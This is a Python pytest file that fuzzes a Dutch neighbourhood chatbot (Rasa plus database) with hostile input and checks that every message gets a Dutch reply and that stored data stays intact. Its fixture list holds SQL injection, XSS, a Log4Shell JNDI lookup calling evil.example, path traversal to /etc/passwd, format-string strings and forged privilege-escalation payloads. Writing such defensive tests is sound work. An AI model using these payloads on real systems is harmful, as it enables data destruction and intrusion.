"""Hostile and odd input through the whole stack (the front end's forwarding code, Rasa's REST channel,
NLU, dialogue, action server, database): every message gets an answer in Dutch, no 5xx, no traceback,
no failed action, and what was stored before is still there, unchanged, afterwards."""

from __future__ import annotations

import asyncio
import json
import random
from datetime import timedelta
from typing import Dict, List, Optional, Set, Tuple
from zoneinfo import ZoneInfo

import httpx
import pytest
from sqlalchemy import func, inspect, or_, select, text
from sqlalchemy.orm import Session

from actions.meetups import age_in
from actions.referral import NATIONAL, match_wijk
from bot.rasa_client import RasaClient
from bot.rendering import EMPTY_TEXT, NO_ANSWER_TEXT, Reply
from buurtbot import meetups, youth
from buurtbot.dates import parse_when
from buurtbot.dreams.wishes import save_wish
from buurtbot.people import get_or_create_person, set_role
from buurtbot.referral.index import read_wijken
from buurtbot.storage import get_engine, session_scope
from buurtbot.storage.models import (
    DreamWish,
    Invite,
    Meetup,
    Person,
    Role,
    Rsvp,
    StripCard,
    StripUse,
    Veto,
    YouthSignup,
)
from buurtbot.storage.types import utcnow

AMS_ZONE = ZoneInfo("Europe/Amsterdam")

FORMS = {  # form: a message that opens it, so that hostile text also lands in slot validation
    "dream_form": "ik heb een wens voor mijn straat",
    "plan_meetup_form": "ik wil een activiteit organiseren",
    "referral_form": "wie kan mij helpen",
    "youth_form": "ik wil meedoen met bouwen aan je toekomst",
    "callback_form": "ik wil een mens spreken",
}
WITNESS_MEETUP = "Buurtbarbecue op het plein"
# Hostile input may add its own senders and their conversations; any other table keeps its row count.
MAY_GROW = frozenset({"people", "events", "wrong_invite_codes"})  # wrong codes are counted to stop guessing
TECHNICAL_WORDS = ("Traceback", "Exception", "Error", "None", "null", "{'", "sqlalchemy", "KeyError")


def hostile_messages() -> List[str]:
    rng = random.Random(8)
    fixed = [
        "",
        " ",
        "\n\n\t",
        "\u00a0",
        "\u200b\u200b",
        "\u202e\u202d",
        "\x00",
        "hoi\x00daar",
        "\x07\x08\x1b[31mrood",
        "a" * 20_000,
        "wens " * 4_000,
        "😀" * 500,
        "🔥🔥🔥",
        "🏠❤️🌳",
        "👨‍👩‍👧‍👦",
        "🤷‍♀️",
        "مرحبا، أحتاج مساعدة مع جيراني",
        "أريد أن أشارك حلمي لحيّنا",
        "Merhaba, komşum çok gürültü yapıyor",
        "Yardım edin lütfen, borçlarım var",
        "Dzień dobry, mam problem z sąsiadem",
        "Chcę zapisać się na spotkanie",
        "Привет, кто может помочь?",
        "你好",
        "ñandú çà øæå ß ﬁ",
        "İSTANBUL ıi",
        "'; DROP TABLE people; --",
        '" OR 1=1 --',
        "1; DELETE FROM dream_wishes",
        "Robert'); DROP TABLE events;--",
        "<script>alert(1)</script>",
        "<b>vet</b><i>schuin</i>",
        "<a href='https://evil.example'>klik</a>",
        "&lt;&amp;&gt;",
        "**vet** _schuin_ `code` [link](https://evil.example)",
        "```\nblok\n```",
        "# kop\n- lijst",
        "||spoiler||",
        "99999999999999999999999999999999",
        "-1",
        "0",
        "1e308",
        "NaN",
        "3.14159",
        "1/0",
        "٣٤٥",
        "Ⅻ",
        "31 februari",
        "30 februari om 25:00",
        "32-13-2026",
        "gisteren om 19:00",
        "morgen om 99 uur",
        "over 1000 jaar",
        "/start",
        "/stop",
        "/help",
        "/hulp",
        "/onbekend",
        "/" + "x" * 200,
        "/start " + "y" * 300,
        "/start ../../etc/passwd",
        "/set_veto_status" + json.dumps({"veto_id": "1", "veto_status": "gehonoreerd"}),
        "/approve_meetup" + json.dumps({"meetup_id": "1", "decision": "ja"}),
        "/cancel_meetup" + json.dumps({"meetup_id": "99999999999999999999"}),
        "/rsvp_meetup" + json.dumps({"meetup_id": "-5"}),
        "/rsvp_meetup" + json.dumps({"meetup_id": "abc"}),
        "/cancel_rsvp" + json.dumps({"meetup_id": "1 OR 1=1"}),
        "/redeem_invite" + json.dumps({"invite_code": "x" * 5_000}),
        "/redeem_invite" + json.dumps({"invite_code": "'; DROP TABLE invites; --"}),
        "/create_invite" + json.dumps({"invite_role": "beheerder", "wijk": "Zuidwijk"}),
        "/show_wishes",
        "/export_my_data",
        "/ask_referral" + json.dumps({"topic": "x" * 3_000, "wijk": "<script>"}),
        "/ask_referral{broken json",
        '/ask_referral{"topic": }',
        "/greet" + "{" * 500,
        "/nonexistent_intent",
        "/emergency" + json.dumps({"channel": "\x00"}),
        "/share_dream" + json.dumps({"dream_wish": "x" * 100_00}),
        "/use_strip",
        "/check_strips",
        "/register_veto",
        "/report_off_record",
        "/forget_me" + json.dumps({"confirm": "ja"}),
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "%s%s%s%n",
        "../../../../etc/passwd",
        "C:\\Windows\\system32",
        "\\u0000\\n",
        "\ufffd\ufffd",
        "null",
        "undefined",
        "true",
        "[]",
        "{}",
        '{"a": 1}',
    ]
    alphabet = "abcdefghijklmnopqrstuvwxyz ÄÖÜäöüéè0123456789!?.,;:'\"<>/\\{}[]()*_~`#@$%^&|+=-\u200b\u202e😀🏠"
    noise = ["".join(rng.choice(alphabet) for _ in range(rng.randint(1, 300))) for _ in range(120)]
    return fixed + noise


def in_form_messages() -> List[str]:
    """The share of the hostile messages that each form sender sends, one after the other."""
    return hostile_messages()[::8]


def form_sender(form: str) -> str:
    return f"hostile-{form}"


def cases() -> List[Tuple[str, str]]:
    """(sender, message): every hostile message once in plain chat, and a share of them inside each form."""
    plain = [(f"hostile-{i}", m) for i, m in enumerate(hostile_messages())]
    in_form = [(form_sender(form), m) for form in FORMS for m in in_form_messages()]
    return plain + in_form


def hostile_senders() -> Set[str]:
    return {sender for sender, _ in cases()}


@pytest.fixture(scope="module")
def rasa(stack_settings, stack) -> str:
    return stack_settings.rasa_url


@pytest.fixture(scope="module")
def stored_before(stack_settings) -> dict:
    """Data that must come through unchanged: a tenant's wish, an approved meetup with one sign-up, and the
    row count of every table, all taken before any hostile message is sent."""
    with session_scope(stack_settings) as session:
        person = get_or_create_person(session, "hostile-witness")
        set_role(session, person, Role.bewoner, "Zuidwijk")
        wish = save_wish(session, person, "Een bankje onder de boom", "straat", "Zuidwijk", None, False)
        organiser = get_or_create_person(session, "hostile-witness-organiser")
        set_role(session, organiser, Role.professional, "Zuidwijk")  # published at once: open for sign-ups
        meetup = meetups.plan(
            session,
            organiser,
            WITNESS_MEETUP,
            utcnow() + timedelta(days=30),
            "Speeltuin",
            "Zuidwijk",
            zone=AMS_ZONE,
            capacity=12,
        )
        guest = get_or_create_person(session, "hostile-witness-guest")
        assert meetups.rsvp(session, meetup, guest, party_size=2).ok
        session.flush()
        stored = {"wish": wish_row(session.get(DreamWish, wish.id)), "meetup_id": meetup.id}
    with session_scope(stack_settings) as session:
        stored.update(
            meetup=meetup_row(session, stored["meetup_id"]),
            rsvps=rsvp_rows(session, stored["meetup_id"]),
            counts=row_counts(session),
        )
    assert stored["meetup"][2:4] == (12, 2) and len(stored["rsvps"]) == 1
    return stored


def wish_row(wish: DreamWish) -> tuple:
    return (
        wish.id,
        wish.person_id,
        wish.wish,
        wish.place,
        wish.wijk,
        wish.contribution,
        wish.contact_consent,
        wish.digest_id,
    )


def meetup_row(session: Session, meetup_id: int) -> Optional[tuple]:
    m = session.get(Meetup, meetup_id)
    return (
        None
        if m is None
        else (m.title, m.starts_at, m.capacity, m.seats_taken, m.status, m.place, m.wijk, m.organiser_id)
    )


def rsvp_rows(session: Session, meetup_id: int) -> List[tuple]:
    rows = session.execute(select(Rsvp).where(Rsvp.meetup_id == meetup_id).order_by(Rsvp.id)).scalars()
    return [(r.id, r.person_id, r.party_size) for r in rows]


def row_counts(session: Session) -> Dict[str, int]:
    tables = inspect(session.get_bind()).get_table_names()
    return {table: session.execute(text(f'SELECT count(*) FROM "{table}"')).scalar() for table in tables}


def active_form(settings, sender: str) -> Optional[str]:
    """The form the sender's stored conversation is in (None: no form), from Rasa's HTTP API."""
    response = httpx.get(
        f"{settings.rasa_url}/conversations/{sender}/tracker", params={"token": settings.rasa_auth_token}, timeout=60
    )
    response.raise_for_status()
    return (response.json().get("active_loop") or {}).get("name")


def say(rasa_url: str, sender: str, message: str) -> List[Reply]:
    """One turn through the forwarding code Telegram and the terminal use; a 5xx or a timeout raises
    RasaUnavailable and fails the test."""

    async def turn() -> List[Reply]:
        client = RasaClient([rasa_url], timeout=120)
        try:
            return await client.send(sender, message)
        finally:
            await client.close()

    return asyncio.run(turn())


def test_every_hostile_message_gets_a_dutch_answer_and_nothing_breaks(
    rasa, stack, stack_settings, stored_before
) -> None:
    all_cases = cases()
    assert len(all_cases) >= 300
    for form, opener in FORMS.items():
        say(rasa, form_sender(form), opener)
    # Otherwise the hostile text sent "into" a form would only be plain chat.
    assert {form: active_form(stack_settings, form_sender(form)) for form in FORMS} == {form: form for form in FORMS}
    silent, technical = [], []
    for sender, message in all_cases:
        replies = say(rasa, sender, message)
        texts = [r.text or "" for r in replies]
        # NO_ANSWER is the front end's safety net for a silent Rasa: here Rasa itself must answer.
        if texts == [NO_ANSWER_TEXT] or not any(t.strip() for t in texts):
            silent.append(message[:60])
        if not message.strip("\x00\u200b\u202e\u202d\u00a0 \n\t"):
            assert texts == [EMPTY_TEXT]
        technical += [
            (message[:60], t[:120]) for t in texts if any(w in t and w not in message for w in TECHNICAL_WORDS)
        ]
    assert silent == [], f"{len(silent)} messages got no answer, e.g. {silent[:5]}"
    assert technical == []

    log = (stack_settings.var_dir / "log" / "actions.log").read_text(errors="replace")
    assert "failed with" not in log, log[log.find("failed with") - 200 : log.find("failed with") + 2000]


def test_no_hostile_message_can_finish_a_form_that_stores_something() -> None:
    """Why only `people` and `events` may grow (the premises of the test below). A bewoner stores something
    only by finishing the dream, meetup, youth or callback form (no single message does), or by signing up for
    a meetup, and the texts sent into the forms cannot fill a slot each of them needs."""
    messages, wijken = in_form_messages(), read_wijken()
    names = [name.lower() for wijk, aliases in wijken.items() for name in (wijk, *aliases)]
    # dream_wijk, meetup_wijk: the form senders are new, so their wijk is asked, and no text names one, not even
    # by another name (which could give the sender a wijk through the referral action).
    assert [
        m for m in messages if match_wijk(m, list(wijken)) not in (None, NATIONAL) or any(n in m.lower() for n in names)
    ] == []
    # meetup_when: no text is a date.
    assert [m for m in messages if parse_when(m, utcnow(), ZoneInfo("Europe/Amsterdam")).when is not None] == []
    # youth_age: no text holds an age of 16 to 27 (31, for one, ends the form with "niets opgeslagen").
    assert [m for m in messages if youth.MIN_AGE <= (age_in(m) or 0) <= youth.MAX_AGE] == []
    # callback_channel is filled only from a button payload's "channel".
    assert [m for m in messages if '"channel"' in m] == []
    # A sign-up by text needs a word of the title (meetups.find_by_text); a forged payload, a valid id.
    assert [m for m in hostile_messages() if meetups.find_by_text([Meetup(title=WITNESS_MEETUP)], m)] == []


def test_what_was_stored_before_is_intact(rasa, stack_settings, stored_before) -> None:
    with session_scope(stack_settings) as session:
        assert wish_row(session.get(DreamWish, stored_before["wish"][0])) == stored_before["wish"]
        assert meetup_row(session, stored_before["meetup_id"]) == stored_before["meetup"]
        assert rsvp_rows(session, stored_before["meetup_id"]) == stored_before["rsvps"]
        counts = row_counts(session)
        assert_hostile_senders_got_nothing(session)
        for meetup in session.execute(select(Meetup)).scalars():  # seats_taken is kept in step with the sign-ups
            booked = session.execute(
                select(func.coalesce(func.sum(Rsvp.party_size), 0)).where(Rsvp.meetup_id == meetup.id)
            ).scalar()
            assert meetup.seats_taken == booked, meetup.title
    before = stored_before["counts"]
    assert counts.keys() == before.keys()  # every table still there, none added
    assert [(t, before[t], counts[t]) for t in MAY_GROW if counts[t] < before[t]] == []
    assert {t: n for t, n in counts.items() if t not in MAY_GROW} == {
        t: n for t, n in before.items() if t not in MAY_GROW
    }
    engine = get_engine(stack_settings.database_url)
    if engine.dialect.name == "sqlite":
        with engine.connect() as connection:
            assert connection.execute(text("PRAGMA integrity_check")).scalar() == "ok"
            assert connection.execute(text("PRAGMA foreign_key_check")).fetchall() == []


def assert_hostile_senders_got_nothing(session: Session) -> None:
    """No hostile sender got a role, an invite, a strip, a veto, a wish or a youth sign-up (off-the-record
    reports have no person: their row count, compared above, covers them)."""
    people = session.execute(select(Person).where(Person.sender_id.in_(hostile_senders()))).scalars().all()
    assert people, "no hostile sender reached the action server: the checks below would prove nothing"
    assert [(p.sender_id, p.role) for p in people if p.role != Role.bewoner] == []
    ids = [p.id for p in people]
    owned = {
        "invites": select(Invite.id).where(or_(Invite.created_by_id.in_(ids), Invite.used_by_id.in_(ids))),
        "strip_cards": select(StripCard.id).where(StripCard.person_id.in_(ids)),
        "strip_uses": select(StripUse.id)
        .join(StripCard, StripCard.id == StripUse.card_id)
        .where(StripCard.person_id.in_(ids)),
        "vetoes": select(Veto.id).where(Veto.person_id.in_(ids)),
        "dream_wishes": select(DreamWish.id).where(DreamWish.person_id.in_(ids)),
        "meetups": select(Meetup.id).where(Meetup.organiser_id.in_(ids)),
        "rsvps": select(Rsvp.id).where(Rsvp.person_id.in_(ids)),
        "youth_signups": select(YouthSignup.id).where(YouthSignup.person_id.in_(ids)),
    }
    assert {table: session.execute(query).scalars().all() for table, query in owned.items()} == {
        table: [] for table in owned
    }
